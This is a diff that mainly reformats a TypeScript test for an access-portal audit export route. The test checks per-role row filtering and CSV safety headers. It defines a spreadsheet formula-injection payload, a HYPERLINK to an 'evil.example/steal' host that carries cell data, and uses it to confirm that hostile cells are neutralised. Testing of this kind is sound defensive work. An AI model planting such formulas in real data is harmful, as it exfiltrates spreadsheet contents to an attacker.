@@ -21,7 +21,12 @@ vi.mock("@/lib/auth/actor", () => ({
 const { GET: exportRoute } = await import("../../../app/api/audit/export/route");
 const { default: AuditTrailPage } = await import("../../../app/(portal)/audit/requests/[id]/page");
 
-const PEOPLE: Record<string, Role[]> = { alice: ["REQUESTER"], erin: ["REQUESTER"], bob: ["APPROVER"], carol: ["AUDITOR"] };
+const PEOPLE: Record<string, Role[]> = {
+  alice: ["REQUESTER"],
+  erin: ["REQUESTER"],
+  bob: ["APPROVER"],
+  carol: ["AUDITOR"],
+};
 const HOSTILE = `=HYPERLINK("http://evil.example/steal?d="&A1,"Open")`;
 
 let db: TestDatabase;
@@ -39,10 +44,20 @@ async function request(name: string, justification: string, ticket: string | nul
       startsAt: new Date(),
       endsAt: new Date(Date.now() + 3_600_000),
       requiredApprovals: 1,
-      targets: { create: [{ accountId: "210987654321", permissionSetArn: "arn:aws:sso:::permissionSet/ssoins-1/ps-power" }] },
+      targets: {
+        create: [{ accountId: "210987654321", permissionSetArn: "arn:aws:sso:::permissionSet/ssoins-1/ps-power" }],
+      },
     },
   });
-  await db.prisma.$transaction((tx) => emitAudit(tx, users[name]!, { action: "request.created", entityType: "request", entityId: created.id, requestId: created.id, reason: justification }));
+  await db.prisma.$transaction((tx) =>
+    emitAudit(tx, users[name]!, {
+      action: "request.created",
+      entityType: "request",
+      entityId: created.id,
+      requestId: created.id,
+      reason: justification,
+    }),
+  );
   return created.id;
 }
 
@@ -58,7 +73,17 @@ beforeAll(async () => {
   (globalThis as { portalPrisma?: unknown }).portalPrisma = db.prisma;
   for (const [name, roles] of Object.entries(PEOPLE)) {
     const user = await db.prisma.user.create({ data: { email: `${name}@example.com`, name, roles } });
-    users[name] = { type: "user", userId: user.id, email: user.email!, name, roles, groups: [], identityStoreUserId: null, ip: "10.0.0.5", userAgent: "vitest" };
+    users[name] = {
+      type: "user",
+      userId: user.id,
+      email: user.email!,
+      name,
+      roles,
+      groups: [],
+      identityStoreUserId: null,
+      ip: "10.0.0.5",
+      userAgent: "vitest",
+    };
   }
   ids.alice = await request("alice", "Rotate the payment gateway keys", "PAY-1");
   ids.erin = await request("erin", HOSTILE, "INC-7");
@@ -82,7 +107,12 @@ describe("GET /api/audit/export", () => {
   });
 
   it("gives a requester only their own rows, whatever the query string asks for", async () => {
-    for (const query of ["format=csv", "format=csv&requester=erin%40example.com", "format=csv&q=analytics", `format=csv&q=${encodeURIComponent("HYPERLINK")}`]) {
+    for (const query of [
+      "format=csv",
+      "format=csv&requester=erin%40example.com",
+      "format=csv&q=analytics",
+      `format=csv&q=${encodeURIComponent("HYPERLINK")}`,
+    ]) {
       const { response, text } = await download("alice", query);
       expect(response.status).toBe(200);
       const [header, ...rows] = parseCsv(text);
@@ -92,7 +122,10 @@ describe("GET /api/audit/export", () => {
       expect(text).not.toContain("analytics");
     }
     const { text } = await download("alice", "format=jsonl");
-    const lines = text.trim().split("\n").map((l) => JSON.parse(l) as { id: string; requester: { email: string } });
+    const lines = text
+      .trim()
+      .split("\n")
+      .map((l) => JSON.parse(l) as { id: string; requester: { email: string } });
     expect(lines.map((l) => l.id)).toEqual([ids.alice]);
   });
 
@@ -104,7 +137,9 @@ describe("GET /api/audit/export", () => {
   it("gives an auditor everyone's rows, with hostile cells neutralised", async () => {
     const { response, text } = await download("carol", "format=csv&requester=erin%40example.com");
     expect(response.headers.get("content-type")).toContain("text/csv");
-    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="access-history-\d{8}T\d{6}Z\.csv"$/);
+    expect(response.headers.get("content-disposition")).toMatch(
+      /^attachment; filename="access-history-\d{8}T\d{6}Z\.csv"$/,
+    );
     expect(response.headers.get("x-content-type-options")).toBe("nosniff");
     const [, ...rows] = parseCsv(text);
     expect(rows.map((r) => r[0]).sort()).toEqual([ids.erin, ids.erinQuiet].sort());
@@ -117,7 +152,11 @@ describe("GET /api/audit/export", () => {
   it("rejects an unknown format with a field error, not a stack trace", async () => {
     const { response, text } = await download("carol", "format=xlsx");
     expect(response.status).toBe(400);
-    expect(JSON.parse(text)).toMatchObject({ ok: false, code: "VALIDATION", fieldErrors: { format: ["Choose csv or jsonl."] } });
+    expect(JSON.parse(text)).toMatchObject({
+      ok: false,
+      code: "VALIDATION",
+      fieldErrors: { format: ["Choose csv or jsonl."] },
+    });
   });
 });
 
